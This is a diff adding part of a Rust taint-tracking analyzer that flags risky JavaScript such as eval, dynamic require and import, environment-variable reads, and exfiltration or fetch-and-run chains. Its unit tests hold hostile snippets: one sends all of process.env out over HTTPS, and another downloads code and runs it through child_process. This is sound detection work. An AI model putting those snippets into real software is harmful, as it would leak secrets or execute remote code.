+                }
+            }
+            None => match it.name.as_str() {
+                "eval" => self.hit(RuleId::EvalCall, it.span),
+                "Function" if !self.exempt_function.contains(&it.span.start) => {
+                    self.hit(RuleId::FunctionConstructor, it.span)
+                }
+                "require" if !self.exempt_require.contains(&it.span.start) => self.hit(RuleId::DynamicRequire, it.span),
+                _ => {}
+            },
+        }
+    }
+
+    fn visit_string_literal(&mut self, it: &StringLiteral<'a>) {
+        let v = it.value.as_str();
+        if is_credential_path(v) {
+            self.add_taint(CRED);
+        }
+        if v.starts_with('/') || v.starts_with("~/") {
+            self.add_taint(HOME);
+        }
+    }
+
+    fn visit_template_literal(&mut self, it: &TemplateLiteral<'a>) {
+        for q in &it.quasis {
+            if is_credential_path(q.value.raw.as_str()) {
+                self.add_taint(CRED);
+            }
+        }
+        walk::walk_template_literal(self, it);
+    }
+
+    fn visit_static_member_expression(&mut self, it: &StaticMemberExpression<'a>) {
+        let ov = self.val(&it.object);
+        let name = it.property.name.as_str();
+        let obj = it.object.get_inner_expression();
+        self.exempt_require.insert(obj.span().start);
+        if !matches!(name, "call" | "apply" | "bind") {
+            self.exempt_function.insert(obj.span().start);
+        }
+        if ov == Some(Val::ProcessEnv) {
+            // One named variable: weaker than the whole environment.
+            self.exempt_taint.insert(obj.span().start);
+            self.add_taint(ENVVAR);
+        }
+        let got = member(ov, name);
+        self.obtained(ov, got, it.property.span);
+        if got == Some(Val::ProcessEnv) && !self.exempt_taint.contains(&it.span.start) {
+            self.add_taint(SECRET);
+        }
+        self.visit_expression(&it.object);
+    }
+
+    fn visit_computed_member_expression(&mut self, it: &ComputedMemberExpression<'a>) {
+        let ov = self.val(&it.object);
+        let obj = it.object.get_inner_expression();
+        self.exempt_require.insert(obj.span().start);
+        self.exempt_function.insert(obj.span().start);
+        let key = self.fold(&it.expression);
+        match &key {
+            Some(k) => {
+                let got = member(ov, k);
+                self.obtained(ov, got, it.expression.span());
+                if ov == Some(Val::ProcessEnv) {
+                    self.exempt_taint.insert(obj.span().start);
+                    self.add_taint(ENVVAR);
+                }
+                if got == Some(Val::ProcessEnv) && !self.exempt_taint.contains(&it.span.start) {
+                    self.add_taint(SECRET);
+                }
+            }
+            None => {
+                if ov.is_some_and(Val::is_powerful_object) {
+                    self.hit(RuleId::DynamicAccess, it.expression.span());
+                }
+            }
+        }
+        walk::walk_computed_member_expression(self, it);
+    }
+
+    fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
+        self.call(&it.callee, &it.arguments, false);
+    }
+
+    fn visit_new_expression(&mut self, it: &NewExpression<'a>) {
+        self.call(&it.callee, &it.arguments, true);
+    }
+
+    fn visit_unary_expression(&mut self, it: &UnaryExpression<'a>) {
+        if it.operator == UnaryOperator::Typeof {
+            let s = it.argument.get_inner_expression().span().start;
+            self.exempt_require.insert(s);
+            self.exempt_function.insert(s);
+        }
+        walk::walk_unary_expression(self, it);
+    }
+
+    fn visit_binary_expression(&mut self, it: &BinaryExpression<'a>) {
+        match it.operator {
+            BinaryOperator::Instanceof => {
+                self.exempt_function
+                    .insert(it.right.get_inner_expression().span().start);
+            }
+            BinaryOperator::StrictEquality
+            | BinaryOperator::StrictInequality
+            | BinaryOperator::Equality
+            | BinaryOperator::Inequality => {
+                self.exempt_function
+                    .insert(it.right.get_inner_expression().span().start);
+                self.exempt_function.insert(it.left.get_inner_expression().span().start);
+                self.exempt_require.insert(it.right.get_inner_expression().span().start);
+                self.exempt_require.insert(it.left.get_inner_expression().span().start);
+            }
+            _ => {}
+        }
+        walk::walk_binary_expression(self, it);
+    }
+
+    fn visit_variable_declarator(&mut self, it: &VariableDeclarator<'a>) {
+        self.visit_binding_pattern(&it.id);
+        let Some(init) = &it.init else { return };
+        let inner = init.get_inner_expression();
+        self.exempt_require.insert(inner.span().start);
+        let v = self.val(init);
+        if v == Some(Val::Function) && Self::via_constructor(init) {
+            self.hit(RuleId::FunctionConstructor, Self::callee_span(init));
+        }
+        let mut t = self.taint_of(|s| s.visit_expression(init));
+        let pat = pat_of(&it.id);
+        if let Pat::Id(sym) = &pat {
+            if let Some(ps) = function_params(init) {
+                let ps = params_of(ps);
+                if !self.fn_params.contains_key(sym) {
+                    self.fn_params.insert(*sym, ps);
+                    self.changed = true;
+                }
+            }
+            if self.in_const && !self.sym_str.contains_key(sym) {
+                if let Some(s) = self.fold(init) {
+                    self.sym_str.insert(*sym, s);
+                    self.changed = true;
+                }
+            }
+        }
+        if v == Some(Val::ProcessEnv) {
+            if let Pat::Obj(_, None) = pat {
+                t = (t & !SECRET) | ENVVAR;
+            }
+        }
+        self.bind(&pat, v, t);
+    }
+
+    fn visit_assignment_expression(&mut self, it: &AssignmentExpression<'a>) {
+        if matches!(it.left, AssignmentTarget::AssignmentTargetIdentifier(_)) {
+            self.exempt_require.insert(it.right.get_inner_expression().span().start);
+        }
+        self.visit_assignment_target(&it.left);
+        let v = if it.operator == AssignmentOperator::Assign {
+            self.val(&it.right)
+        } else {
+            None
+        };
+        let t = self.taint_of(|s| s.visit_expression(&it.right));
+        match &it.left {
+            AssignmentTarget::AssignmentTargetIdentifier(id) => {
+                if let Some(s) = self.symbol_of(id) {
+                    if let Some(v) = v {
+                        self.set_val(s, v);
+                    }
+                    self.set_taint(s, t);
+                }
+            }
+            AssignmentTarget::ObjectAssignmentTarget(o) => {
+                for p in &o.properties {
+                    match p {
+                        AssignmentTargetProperty::AssignmentTargetPropertyIdentifier(pi) => {
+                            let got = member(v, pi.binding.name.as_str());
+                            if v.is_some() {
+                                self.obtained(v, got, pi.binding.span);
+                            }
+                            if let Some(s) = self.symbol_of(&pi.binding) {
+                                if let Some(g) = got {
+                                    self.set_val(s, g);
+                                }
+                                self.set_taint(s, t);
+                            }
+                        }
+                        AssignmentTargetProperty::AssignmentTargetPropertyProperty(pp) => {
+                            let key = key_name(&pp.name);
+                            match key {
+                                Some(k) => {
+                                    let got = member(v, &k);
+                                    if v.is_some() {
+                                        self.obtained(v, got, pp.name.span());
+                                    }
+                                    if let AssignmentTargetMaybeDefault::AssignmentTargetIdentifier(id) = &pp.binding {
+                                        if let Some(s) = self.symbol_of(id) {
+                                            if let Some(g) = got {
+                                                self.set_val(s, g);
+                                            }
+                                            self.set_taint(s, t);
+                                        }
+                                    }
+                                }
+                                None => {
+                                    if v.is_some_and(Val::is_powerful_object) {
+                                        self.hit(RuleId::DynamicAccess, pp.name.span());
+                                    }
+                                }
+                            }
+                        }
+                    }
+                }
+            }
+            other => {
+                // `obj.field = secret`: the object now holds the data.
+                if let Some(m) = other
+                    .as_simple_assignment_target()
+                    .and_then(|t| t.as_member_expression())
+                {
+                    if let Some(s) = self.root_symbol(m.object()) {
+                        self.set_taint(s, t & !(CRED | HOME));
+                    }
+                }
+            }
+        }
+    }
+
+    fn visit_function(&mut self, it: &Function<'a>, flags: ScopeFlags) {
+        let sym = it.id.as_ref().and_then(|id| id.symbol_id.get());
+        if let Some(s) = sym {
+            if let std::collections::hash_map::Entry::Vacant(e) = self.fn_params.entry(s) {
+                e.insert(params_of(&it.params));
+                self.changed = true;
+            }
+            self.set_val(s, Val::FnValue);
+        }
+        self.fn_stack.push(sym);
+        self.isolated(|w| walk::walk_function(w, it, flags));
+        self.fn_stack.pop();
+    }
+
+    fn visit_arrow_function_expression(&mut self, it: &ArrowFunctionExpression<'a>) {
+        self.fn_stack.push(None);
+        self.isolated(|w| walk::walk_arrow_function_expression(w, it));
+        self.fn_stack.pop();
+    }
+
+    fn visit_return_statement(&mut self, it: &ReturnStatement<'a>) {
+        let Some(arg) = &it.argument else { return };
+        self.exempt_require.remove(&arg.get_inner_expression().span().start);
+        let t = self.taint_of(|s| s.visit_expression(arg));
+        if let Some(Some(f)) = self.fn_stack.last().copied() {
+            let e = self.fn_ret.entry(f).or_insert(0);
+            if *e | t != *e {
+                *e |= t;
+                self.changed = true;
+            }
+        }
+    }
+
+    fn visit_import_expression(&mut self, it: &ImportExpression<'a>) {
+        let t = self.taint_of(|s| s.visit_expression(&it.source));
+        match self.fold(&it.source) {
+            Some(spec) => self.module(&spec, it.source.span()),
+            None => {
+                let kw = Span::new(it.span.start, it.span.start + 6);
+                self.hit(RuleId::DynamicImport, kw);
+                if t & REMOTE != 0 {
+                    self.hit(RuleId::FetchAndRun, kw);
+                }
+            }
+        }
+        if let Some(o) = &it.options {
+            self.visit_expression(o);
+        }
+    }
+
+    fn visit_import_declaration(&mut self, it: &ImportDeclaration<'a>) {
+        if it.import_kind == ImportOrExportKind::Type {
+            return;
+        }
+        let spec = it.source.value.as_str();
+        self.module(spec, it.source.span);
+        let b = builtin_of(spec);
+        if let Some(specs) = &it.specifiers {
+            for s in specs {
+                match s {
+                    ImportDeclarationSpecifier::ImportSpecifier(is) => {
+                        if is.import_kind == ImportOrExportKind::Type {
+                            continue;
+                        }
+                        let name = match &is.imported {
+                            ModuleExportName::IdentifierName(n) => n.name.as_str(),
+                            ModuleExportName::IdentifierReference(n) => n.name.as_str(),
+                            ModuleExportName::StringLiteral(n) => n.value.as_str(),
+                        };
+                        if let (Some(sym), Some(v)) = (is.local.symbol_id.get(), member(Some(Val::Mod(b)), name)) {
+                            if b != Builtin::Other {
+                                self.set_val(sym, v);
+                            }
+                        }
+                    }
+                    ImportDeclarationSpecifier::ImportDefaultSpecifier(d) => {
+                        if let Some(sym) = d.local.symbol_id.get() {
+                            if b != Builtin::Other {
+                                self.set_val(sym, Val::Mod(b));
+                            }
+                        }
+                    }
+                    ImportDeclarationSpecifier::ImportNamespaceSpecifier(n) => {
+                        if let Some(sym) = n.local.symbol_id.get() {
+                            if b != Builtin::Other {
+                                self.set_val(sym, Val::Mod(b));
+                            }
+                        }
+                    }
+                }
+            }
+        }
+    }
+
+    fn visit_export_from_declaration(&mut self, it: &ExportFromDeclaration<'a>) {
+        if it.export_kind == ImportOrExportKind::Type {
+            return;
+        }
+        self.module(it.source.value.as_str(), it.source.span);
+    }
+
+    fn visit_export_all_declaration(&mut self, it: &ExportAllDeclaration<'a>) {
+        if it.export_kind == ImportOrExportKind::Type {
+            return;
+        }
+        self.module(it.source.value.as_str(), it.source.span);
+    }
+
+    fn visit_ts_import_equals_declaration(&mut self, it: &TSImportEqualsDeclaration<'a>) {
+        if it.import_kind == ImportOrExportKind::Type {
+            return;
+        }
+        if let TSModuleReference::ExternalModuleReference(r) = &it.module_reference {
+            let spec = r.expression.value.as_str();
+            self.module(spec, r.expression.span);
+            if let Some(sym) = it.id.symbol_id.get() {
+                let b = builtin_of(spec);
+                if b != Builtin::Other {
+                    self.set_val(sym, Val::Mod(b));
+                }
+            }
+        }
+    }
+
+    fn visit_formal_parameter(&mut self, it: &FormalParameter<'a>) {
+        // Default values bind like declarations.
+        self.visit_binding_pattern(&it.pattern);
+        if let Some(init) = &it.initializer {
+            let v = self.val(init);
+            let t = self.taint_of(|s| s.visit_expression(init));
+            self.bind(&pat_of(&it.pattern), v, t);
+        }
+    }
+
+    fn visit_variable_declaration(&mut self, it: &VariableDeclaration<'a>) {
+        let saved = self.in_const;
+        self.in_const = it.kind == VariableDeclarationKind::Const;
+        walk::walk_variable_declaration(self, it);
+        self.in_const = saved;
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rules(src: &str) -> Vec<RuleId> {
+        let a = analyze("t.js", src);
+        assert!(a.parse_errors.is_empty(), "{src}: {:?}", a.parse_errors);
+        a.hits.iter().map(|h| h.rule).collect()
+    }
+
+    #[test]
+    fn aliases_follow_bindings() {
+        assert_eq!(rules("const g = globalThis; g.eval(x)"), vec![RuleId::EvalCall]);
+        assert_eq!(
+            rules("function f(g) { return g.eval } f(globalThis)"),
+            vec![RuleId::EvalCall]
+        );
+        assert_eq!(
+            rules("run(globalThis); function run(g) { g['ev' + 'al'](1) }"),
+            vec![RuleId::EvalCall]
+        );
+        assert_eq!(rules("const r = require; r('vm')"), vec![RuleId::ForbiddenBuiltin]);
+        assert_eq!(rules("function eval2(eval) { eval(x) }"), Vec::<RuleId>::new());
+        assert_eq!(
+            rules("const { binding: b } = process; b('x')"),
+            vec![RuleId::ProcessBinding]
+        );
+        assert_eq!(rules("let p; p = process; p.dlopen()"), vec![RuleId::ProcessDlopen]);
+    }
+
+    #[test]
+    fn chains_need_a_source_and_a_sink() {
+        let exfil =
+            "const https = require('https'); const d = JSON.stringify(process.env); https.request({host: 'x'}).end(d)";
+        assert!(rules(exfil).contains(&RuleId::ExfiltrationChain));
+        let benign = "const https = require('https'); const t = process.env.TOKEN; https.get({headers: {a: t}})";
+        assert!(
+            !rules(benign).contains(&RuleId::ExfiltrationChain),
+            "{:?}",
+            rules(benign)
+        );
+        let run = "const cp = require('child_process'); fetch(u).then(r => r.text()).then(code => cp.exec(code))";
+        assert!(rules(run).contains(&RuleId::FetchAndRun), "{:?}", rules(run));
+    }
+}
